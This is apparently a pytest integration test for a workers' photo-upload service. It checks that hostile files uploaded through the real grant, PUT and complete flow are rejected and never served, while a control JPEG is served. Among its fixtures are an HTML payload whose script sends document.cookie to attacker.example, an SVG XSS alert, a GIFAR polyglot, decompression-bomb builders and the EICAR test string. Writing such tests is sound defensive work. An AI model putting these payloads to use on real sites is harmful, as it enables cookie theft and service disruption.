"""Proof row 10 (issue 9): hostile uploads through the real photo flow are rejected or kept in quarantine and never
served.

Each file is uploaded as a worker's app would: an upload grant from our API, one PUT to the SAS URL (Azurite), then
`/complete`, and the local host's queue-triggered processor decides. Every file is made here from bytes (the EICAR
string is assembled at run time; nothing hostile is committed). A file counts as served when any of these holds:
it is `ready`, it has a read link, anything exists in the `photos` container under its prefix, or the list endpoint
shows it as `ready`. One good JPEG goes through the same way and must be served, so the test fails in both
directions.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from azure.storage.blob import BlobServiceClient

from tests.fixtures import images
from tests.helpers import wait_for
from tests.integration.conftest import Stack, User, add_member

CONSENT = {"granted": True, "deviceId": "phone-1", "appVersion": "5.0.0"}
ROW = 10


# ---------------------------------------------------------------- hostile files, built from bytes


def _zip(name: str, content: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, content)
    return buf.getvalue()


def _pe() -> bytes:
    """A DOS/PE header with its stub text and e_lfanew pointing at the PE signature (nothing that runs)."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + stub + pe + b"\x00" * 512


def _elf() -> bytes:
    return images.ELF_HEADER + b"\x00" * 512


HTML = (
    b"<!DOCTYPE html><html><head><title>photo</title></head><body>"
    b"<script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>\n"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
    b'<rect width="64" height="64"/><script>alert(document.domain)</script></svg>\n'
)


def _gifar() -> bytes:
    """A GIF followed by a JAR (a ZIP): a GIF to an image viewer, an archive to a JVM (the GIFAR attack)."""
    gif = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )
    return gif + _zip("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n")


def _jpeg_declaring(width: int, height: int) -> bytes:
    """A small valid JPEG whose SOF0 header is patched to claim width x height (a decompression bomb)."""
    data = bytearray(images.jpeg(size=(16, 16)))
    sof = data.find(b"\xff\xc0")
    assert sof > 0
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def _png_declaring(width: int, height: int) -> bytes:
    """A PNG header claiming width x height with a few rows of data: tiny file, gigantic once decoded."""
    small = images.png_bomb(64, 4)
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr) & 0xFFFFFFFF)
    return small[:8] + chunk + small[8 + len(chunk) :]


def _eicar() -> bytes:
    # The 68-byte standard anti-virus test string, assembled here so no file in the repository carries it.
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)" + b"7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# label -> (bytes, declared content type, the reason the processor must give)
def hostile_files() -> dict[str, tuple[bytes, str, str]]:
    jpeg = images.jpeg(size=(320, 240))
    return {
        "PE executable (MZ) as .jpg": (_pe(), "image/jpeg", "not-an-image"),
        "ELF executable as .jpg": (_elf(), "image/jpeg", "not-an-image"),
        "HTML page as .jpg": (HTML, "image/jpeg", "not-an-image"),
        "SVG with script as .jpg": (SVG, "image/jpeg", "not-an-image"),
        "HTML behind JPEG magic bytes": (b"\xff\xd8\xff\xe0" + HTML, "image/jpeg", "undecodable"),
        "polyglot JPEG + ZIP": (jpeg + _zip("payload.html", HTML), "image/jpeg", "not-an-image"),
        "polyglot JPEG + HTML": (jpeg + HTML, "image/jpeg", "not-an-image"),
        "polyglot PNG + ZIP": (images.png((120, 80)) + _zip("a.js", b"alert(1)"), "image/png", "not-an-image"),
        "GIFAR (GIF + JAR) as .jpg": (_gifar(), "image/jpeg", "not-an-image"),
        "EICAR test file as .jpg": (_eicar(), "image/jpeg", "malware"),
        "JPEG + EICAR appended": (jpeg + _eicar(), "image/jpeg", "malware"),
        "JPEG bomb (SOF says 12000x12000)": (_jpeg_declaring(12000, 12000), "image/jpeg", "too-many-pixels"),
        "PNG bomb (IHDR says 100000x100000)": (_png_declaring(100_000, 100_000), "image/png", "too-many-pixels"),
        "truncated JPEG (first half)": (jpeg[: len(jpeg) // 2], "image/jpeg", "undecodable"),
        "truncated JPEG (no EOI)": (jpeg[:-2], "image/jpeg", "undecodable"),
    }


# ---------------------------------------------------------------- the flow


@pytest.fixture(scope="module")
def blob_service(stack: Stack) -> BlobServiceClient:
    assert stack.settings.storage_connection_string is not None
    return BlobServiceClient.from_connection_string(stack.settings.storage_connection_string.get_secret_value())


def _worker(api: httpx.Client, owner: User) -> User:
    member = add_member(api, owner)
    r = api.put("/me/consents/camera", json=CONSENT, headers=member.auth)
    assert r.status_code == 200, r.text
    return member


def _upload(api: httpx.Client, user: User, data: bytes, content_type: str) -> str:
    r = api.post("/me/photos", json={"contentType": content_type, "sizeBytes": len(data)}, headers=user.auth)
    assert r.status_code == 201, r.text
    grant: dict[str, Any] = r.json()
    put = httpx.put(grant["uploadUrl"], content=data, headers=grant["uploadHeaders"], timeout=30)
    assert put.status_code == 201, put.text  # the storage accepts any bytes: the processor must decide
    r = api.post(f"/me/photos/{grant['photoId']}/complete", headers=user.auth)
    assert r.status_code == 202, r.text
    photo_id: str = grant["photoId"]
    return photo_id


def _settled(api: httpx.Client, owner: User, ids: list[str]) -> dict[str, dict[str, Any]]:
    def check() -> dict[str, dict[str, Any]]:
        found: dict[str, dict[str, Any]] = {}
        for photo_id in ids:
            r = api.get(f"/accounts/{owner.account_id}/photos/{photo_id}", headers=owner.auth)
            assert r.status_code == 200, r.text
            if r.json()["status"] == "pending":
                return {}  # not yet
            found[photo_id] = r.json()
        return found

    done: dict[str, dict[str, Any]] = wait_for(check, timeout=60, interval=0.5, what="every upload processed")
    return done


def _names(service: BlobServiceClient, container: str, prefix: str) -> list[str]:
    return sorted(b.name for b in service.get_container_client(container).list_blobs(name_starts_with=prefix))


def _listed(api: httpx.Client, owner: User, member: User) -> dict[str, str]:
    """Status of each of the worker's photos as the owner's list endpoint shows them (every page, bounded)."""
    shown: dict[str, str] = {}
    params: dict[str, str] = {"userId": member.user_id, "limit": "100"}
    for _ in range(10):
        r = api.get(f"/accounts/{owner.account_id}/photos", params=params, headers=owner.auth)
        assert r.status_code == 200, r.text
        body = r.json()
        shown.update({p["photoId"]: p["status"] for p in body["items"]})
        if not body.get("continuation"):
            break
        params["continuation"] = body["continuation"]
    return shown


def test_hostile_uploads_are_never_served_and_a_good_jpeg_is(
    api: httpx.Client, owner: User, blob_service: BlobServiceClient, figure: Callable[..., None]
) -> None:
    member = _worker(api, owner)
    files = hostile_files()
    assert len(_eicar()) == 68

    # A type the grant does not even issue for: refused before any upload URL exists.
    svg_grant = api.post(
        "/me/photos", json={"contentType": "image/svg+xml", "sizeBytes": len(SVG)}, headers=member.auth
    )
    refused_at_grant = 1 if svg_grant.status_code == 422 and "uploadUrl" not in svg_grant.text else 0

    ids = {label: _upload(api, member, data, ctype) for label, (data, ctype, _) in files.items()}
    control = _upload(api, member, images.jpeg(size=(800, 600)), "image/jpeg")
    outcome = _settled(api, owner, [*ids.values(), control])
    listed = _listed(api, owner, member)

    def served(photo_id: str) -> list[str]:
        photo = outcome[photo_id]
        prefix = f"{owner.account_id}/{member.user_id}/{photo_id}/"
        ways = []
        if photo["status"] == "ready":
            ways.append("ready")
        if photo.get("thumbnailUrl") or photo.get("displayUrl"):
            ways.append("read link")
        if _names(blob_service, "photos", prefix):
            ways.append("in photos container")
        if listed.get(photo_id) == "ready":
            ways.append("listed as ready")
        return ways

    served_by = {label: served(photo_id) for label, photo_id in ids.items()}
    statuses = {label: (outcome[photo_id]["status"], outcome[photo_id]["reason"]) for label, photo_id in ids.items()}
    left_in_quarantine = {
        label: _names(blob_service, "photo-quarantine", f"{owner.account_id}/{member.user_id}/{photo_id}/")
        for label, photo_id in ids.items()
    }
    rejected = sum(1 for s, _ in statuses.values() if s == "rejected")
    quarantined = sum(1 for s, _ in statuses.values() if s == "quarantined")
    n_served = sum(1 for ways in served_by.values() if ways)
    control_served = served(control)
    figure(
        ROW,
        f"{len(files) + 1} hostile files tried ({len(files)} uploaded through the grant + 1 SVG type "
        f"refused at the grant), {n_served} served ({rejected} rejected, {quarantined} quarantined, "
        f"{refused_at_grant} refused at the grant); control JPEG served: {bool(control_served)}",
        tried=len(files) + 1,
        served=n_served,
        rejected=rejected,
        quarantined=quarantined,
        refused_at_grant=refused_at_grant,
        control_served=bool(control_served),
    )

    assert {label: ways for label, ways in served_by.items() if ways} == {}, "hostile files served"
    assert statuses == {label: ("rejected", reason) for label, (_, _, reason) in files.items()}
    # Rejected uploads are deleted from quarantine too (a quarantined one would be kept there for an operator).
    assert {label: names for label, names in left_in_quarantine.items() if names} == {}
    for label, photo_id in ids.items():
        assert listed.get(photo_id) in (None, "rejected", "quarantined"), label
    assert refused_at_grant == 1, svg_grant.text

    # The control: the same path serves an ordinary JPEG (so the checks above can tell the difference).
    assert set(control_served) == {"ready", "read link", "in photos container", "listed as ready"}, control_served
    assert httpx.get(outcome[control]["displayUrl"], timeout=10).status_code == 200
